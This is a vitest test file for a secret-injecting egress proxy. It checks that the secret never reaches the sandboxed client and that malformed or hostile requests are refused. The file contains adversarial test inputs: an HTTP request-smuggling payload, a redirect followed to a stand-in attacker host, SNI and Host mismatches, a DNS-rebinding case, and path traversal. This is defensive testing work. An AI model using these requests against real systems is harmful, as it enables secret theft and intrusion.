import { connect as tlsConnect } from "node:tls";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createCellCa } from "../../src/egress/index.js";
import {
  ATTACKER,
  BOUND,
  binding,
  get,
  leaksSecret,
  PLACEHOLDER,
  type ProxyUnderTest,
  SECRET,
  type SeenRequest,
  startProxy,
  startUpstream,
  throughDuplex,
  throughProxy,
} from "./proxy-harness.js";

// The attacks run from the cell's side of the proxy. Each has a positive control: the same probe where the leak
// (or the request) does get through, so an empty result means the defence held, not that the probe missed.
const testCa = createCellCa();
let upstream: Awaited<ReturnType<typeof startUpstream>>;
let proxy: ProxyUnderTest;

beforeAll(async () => {
  upstream = await startUpstream(testCa);
  proxy = await startProxy(upstream.port, testCa);
});
afterAll(() => {
  upstream.server.close();
  proxy.server.close();
});

function seenSince(mark: number): SeenRequest[] {
  return upstream.seen.slice(mark);
}

describe("the interception path", () => {
  it("an echo endpoint reflecting the injected header gives the cell the placeholder, never the secret", async () => {
    // Control: the echo endpoint, reached directly with the secret, reflects it where the detector sees it.
    const direct = tlsConnect({
      host: "127.0.0.1",
      port: upstream.port,
      servername: BOUND,
      ca: [testCa.certPem],
    });
    direct.end(get("/echo", { Authorization: `Bearer ${SECRET}` }));
    const chunks: Buffer[] = [];
    for await (const chunk of direct) chunks.push(chunk as Buffer);
    expect(leaksSecret(Buffer.concat(chunks))).toBe(true);

    const mark = upstream.seen.length;
    const cell = await throughProxy(proxy, get("/echo", { Authorization: `Bearer ${PLACEHOLDER}` }));
    expect(cell.connectReply).toMatch(/^HTTP\/1\.1 200/);
    expect(seenSince(mark)[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(seenSince(mark)[0]?.headers["accept-encoding"]).toBe("identity");
    const text = cell.tunnel.toString("latin1");
    expect(text).toMatch(/^HTTP\/1\.1 200/);
    expect(text).toContain(PLACEHOLDER);
    expect(leaksSecret(cell.all)).toBe(false);
    expect(proxy.audit.at(-1)).toMatchObject({
      decision: "intercept",
      host: BOUND,
      secretName: "DEMO_API_TOKEN",
      skill: "demo",
      injected: true,
      method: "GET",
      path: "/echo",
      status: 200,
    });
    expect(JSON.stringify(proxy.audit)).not.toContain(SECRET);
  });

  it("a chunked answer with the secret split across chunks is scrubbed too", async () => {
    const mark = upstream.seen.length;
    const cell = await throughProxy(proxy, get("/chunked", { Authorization: `Bearer ${PLACEHOLDER}` }));
    expect(seenSince(mark)[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(cell.tunnel.toString("latin1")).toMatch(/^HTTP\/1\.1 200[\s\S]*transfer-encoding: chunked/i);
    expect(leaksSecret(cell.all)).toBe(false);
    // De-chunked, the body reads as the upstream wrote it, with the placeholder where the secret was.
    const body = cell.tunnel.toString("latin1").split("\r\n\r\n")[1] ?? "";
    const payload = body
      .split("\r\n")
      .filter((_, i) => i % 2 === 1)
      .join("");
    expect(payload).toBe(`token: Bearer ${PLACEHOLDER} end`);
  });

  it("works over any Duplex the channel hands it, not only a socket", async () => {
    const mark = upstream.seen.length;
    const bytes = await throughDuplex(proxy, get("/echo", { Authorization: `Bearer ${PLACEHOLDER}` }));
    expect(bytes.toString("latin1")).toMatch(/^HTTP\/1\.1 200/);
    expect(seenSince(mark)[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(leaksSecret(bytes)).toBe(false);
  });

  it("serves several requests on one kept-alive tunnel, chunked and sized bodies alike", async () => {
    const mark = upstream.seen.length;
    const chunked = `POST /echo HTTP/1.1\r\nHost: ${BOUND}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n`;
    const sized = `POST /echo HTTP/1.1\r\nHost: ${BOUND}\r\nContent-Length: 5\r\nConnection: close\r\n\r\nworld`;
    const cell = await throughProxy(proxy, chunked + sized);
    expect(seenSince(mark).map((r) => r.body)).toEqual(["hello", "world"]);
    expect(cell.tunnel.toString("latin1").match(/HTTP\/1\.1 200/g)).toHaveLength(2);
  });

  it("a placeholder in the body, the query or another header is not substituted: the request is refused", async () => {
    const attempts = [
      `POST /echo HTTP/1.1\r\nHost: ${BOUND}\r\nContent-Length: ${PLACEHOLDER.length + 6}\r\n\r\ntoken=${PLACEHOLDER}`,
      get(`/echo?token=${PLACEHOLDER}`),
      get("/echo", { "X-Api-Key": PLACEHOLDER }),
      get("/echo", { Authorization: `Bearer ${PLACEHOLDER}`, Cookie: `t=${PLACEHOLDER}` }),
    ];
    for (const attempt of attempts) {
      const mark = upstream.seen.length;
      const cell = await throughProxy(proxy, attempt);
      expect(cell.tunnel.toString("latin1")).toMatch(/^HTTP\/1\.1 403 .*\r\n[\s\S]*placeholder/);
      expect(seenSince(mark)).toEqual([]);
      expect(leaksSecret(cell.all)).toBe(false);
      expect(proxy.audit.at(-1)).toMatchObject({ decision: "refused", status: 403 });
    }
  });

  it("a redirect to another host is passed back, not followed; following it carries the placeholder at most", async () => {
    const mark = upstream.seen.length;
    const cell = await throughProxy(proxy, get("/redirect", { Authorization: `Bearer ${PLACEHOLDER}` }));
    const text = cell.tunnel.toString("latin1");
    expect(text).toMatch(/^HTTP\/1\.1 302/);
    expect(seenSince(mark).map((r) => r.host)).toEqual([BOUND]);
    expect(leaksSecret(cell.all)).toBe(false);
    const location = /\r\nlocation: (\S+)\r\n/i.exec(text)?.[1] ?? "";
    expect(location).toContain(encodeURIComponent(PLACEHOLDER));

    // The cell follows it: a blind tunnel (the attacker host is allowed), which the attacker's log proves ran.
    const url = new URL(location);
    const followed = await throughProxy(proxy, get(`${url.pathname}${url.search}`, {}, ATTACKER), {
      target: `${ATTACKER}:443`,
      trust: testCa.certPem,
    });
    expect(followed.tunnel.toString("latin1")).toMatch(/^HTTP\/1\.1 200/);
    const stolen = seenSince(mark).find((r) => r.host === ATTACKER);
    expect(stolen?.url).toContain(encodeURIComponent(PLACEHOLDER));
    expect(leaksSecret(JSON.stringify(stolen))).toBe(false);
    expect(proxy.audit.at(-1)).toMatchObject({ decision: "tunnel", host: ATTACKER, port: 443 });
  });

  it("a Host field that is not the CONNECT host is refused; the matching one passes", async () => {
    const mark = upstream.seen.length;
    const cell = await throughProxy(
      proxy,
      get("/echo", { Authorization: `Bearer ${PLACEHOLDER}` }, ATTACKER),
    );
    expect(cell.tunnel.toString("latin1")).toMatch(/^HTTP\/1\.1 421/);
    expect(seenSince(mark)).toEqual([]);
    const control = await throughProxy(proxy, get("/echo", { Authorization: `Bearer ${PLACEHOLDER}` }));
    expect(control.tunnel.toString("latin1")).toMatch(/^HTTP\/1\.1 200/);
    expect(seenSince(mark)).toHaveLength(1);
  });

  it("an SNI that is not the CONNECT host fails the handshake; the matching SNI completes it", async () => {
    const cell = await throughProxy(proxy, get("/echo"), { sni: ATTACKER });
    expect(cell.tlsError).toBeDefined();
    expect(proxy.audit.at(-1)).toMatchObject({ decision: "refused", host: BOUND });
    const control = await throughProxy(proxy, get("/echo"));
    expect(control.tlsError).toBeUndefined();
  });

  it("Content-Length with Transfer-Encoding (request smuggling) is refused before anything goes upstream", async () => {
    const mark = upstream.seen.length;
    const smuggle =
      `POST /echo HTTP/1.1\r\nHost: ${BOUND}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n` +
      `0\r\n\r\nGET /echo HTTP/1.1\r\nHost: ${BOUND}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n\r\n`;
    const cell = await throughProxy(proxy, smuggle);
    expect(cell.tunnel.toString("latin1")).toMatch(
      /^HTTP\/1\.1 400 .*\r\n[\s\S]*Content-Length and Transfer-Encoding/,
    );
    expect(seenSince(mark)).toEqual([]);
  });

  it("obsolete line folding, bad chunking and HTTP/1.0 are refused", async () => {
    const attempts = [
      `GET /echo HTTP/1.1\r\nHost: ${BOUND}\r\nX-A: 1\r\n folded\r\n\r\n`,
      `POST /echo HTTP/1.1\r\nHost: ${BOUND}\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n`,
      `POST /echo HTTP/1.1\r\nHost: ${BOUND}\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nhello\r\n0\r\n\r\n`,
      `GET /echo HTTP/1.0\r\nHost: ${BOUND}\r\n\r\n`,
    ];
    for (const attempt of attempts) {
      const mark = upstream.seen.length;
      const cell = await throughProxy(proxy, attempt);
      expect(cell.tunnel.toString("latin1")).toMatch(/^HTTP\/1\.1 (400|505) /);
      expect(seenSince(mark).filter((r) => r.body === "hello")).toEqual([]);
    }
  });

  it("a compressed body the upstream sends anyway is refused, since the scrubber cannot read it", async () => {
    const cell = await throughProxy(proxy, get("/gzip", { Authorization: `Bearer ${PLACEHOLDER}` }));
    expect(cell.tunnel.toString("latin1")).toMatch(/^HTTP\/1\.1 502 .*\r\n[\s\S]*gzip/);
  });
});

describe("what is not intercepted", () => {
  it("plain HTTP through the proxy is refused with a reason", async () => {
    const mark = upstream.seen.length;
    for (const line of [
      `GET http://${BOUND}/echo HTTP/1.1\r\nHost: ${BOUND}\r\n\r\n`,
      "GET / HTTP/1.1\r\nHost: proxy\r\n\r\n",
    ]) {
      const cell = await throughProxy(proxy, "", { connectLine: line });
      expect(cell.connectReply).toMatch(/^HTTP\/1\.1 403 [\s\S]*plain HTTP/);
    }
    expect(seenSince(mark)).toEqual([]);
  });

  it("a host that is neither bound nor allowed is refused; the placeholder sent there reaches nothing", async () => {
    const mark = upstream.seen.length;
    const cell = await throughProxy(
      proxy,
      get("/echo", { Authorization: `Bearer ${PLACEHOLDER}` }, "other.example.test"),
      {
        target: "other.example.test:443",
      },
    );
    expect(cell.connectReply).toMatch(/^HTTP\/1\.1 403 [\s\S]*not allowed by the egress policy/);
    expect(seenSince(mark)).toEqual([]);
    expect(proxy.audit.at(-1)).toMatchObject({
      decision: "refused",
      host: "other.example.test",
      status: 403,
    });
  });

  it("a bound host on another port than 443 is refused unless the policy allows a tunnel", async () => {
    const cell = await throughProxy(proxy, get("/echo"), { target: `${BOUND}:8443` });
    expect(cell.connectReply).toMatch(/^HTTP\/1\.1 403 [\s\S]*port 443 only/);
  });
});

describe("dialling", () => {
  it("a bound name rebound to 127.0.0.1 is refused at dial time unless private addresses are allowed", async () => {
    const strict = await startProxy(upstream.port, testCa, { allowPrivate: false, ca: proxy.ca });
    try {
      const mark = upstream.seen.length;
      const cell = await throughProxy(strict, get("/echo", { Authorization: `Bearer ${PLACEHOLDER}` }));
      expect(cell.tunnel.toString("latin1")).toMatch(/^HTTP\/1\.1 403 [\s\S]*resolves to 127\.0\.0\.1/);
      expect(seenSince(mark)).toEqual([]);
      expect(strict.resolved).toEqual([BOUND]);
      // The blind tunnel path checks the same way.
      const tunnel = await throughProxy(strict, get("/"), { target: `${ATTACKER}:443` });
      expect(tunnel.connectReply).toMatch(/^HTTP\/1\.1 403 [\s\S]*resolves to 127\.0\.0\.1/);
    } finally {
      strict.server.close();
    }
  });

  it("the secret is used only within its binding's methods and paths, and within its rate limit", async () => {
    let uses = 0;
    const scoped = await startProxy(upstream.port, testCa, {
      ca: proxy.ca,
      bindings: [{ ...binding, methods: ["GET"], paths: ["/echo"] }],
      rateLimit: () => (++uses > 2 ? "DEMO_API_TOKEN is used too often" : undefined),
    });
    try {
      const auth = { Authorization: `Bearer ${PLACEHOLDER}` };
      expect((await throughProxy(scoped, get("/echo/x", auth))).tunnel.toString()).toMatch(/^HTTP\/1\.1 200/);
      expect((await throughProxy(scoped, get("/echo-admin", auth))).tunnel.toString()).toMatch(
        /^HTTP\/1\.1 403/,
      );
      expect((await throughProxy(scoped, get("/echo/../admin", auth))).tunnel.toString()).toMatch(
        /^HTTP\/1\.1 403/,
      );
      const post = `POST /echo HTTP/1.1\r\nHost: ${BOUND}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nContent-Length: 0\r\n\r\n`;
      expect((await throughProxy(scoped, post)).tunnel.toString()).toMatch(
        /^HTTP\/1\.1 403 [\s\S]*not bound for POST/,
      );
      expect((await throughProxy(scoped, get("/echo", auth))).tunnel.toString()).toMatch(/^HTTP\/1\.1 200/);
      expect((await throughProxy(scoped, get("/echo", auth))).tunnel.toString()).toMatch(/^HTTP\/1\.1 429/);
    } finally {
      scoped.server.close();
    }
  });
});
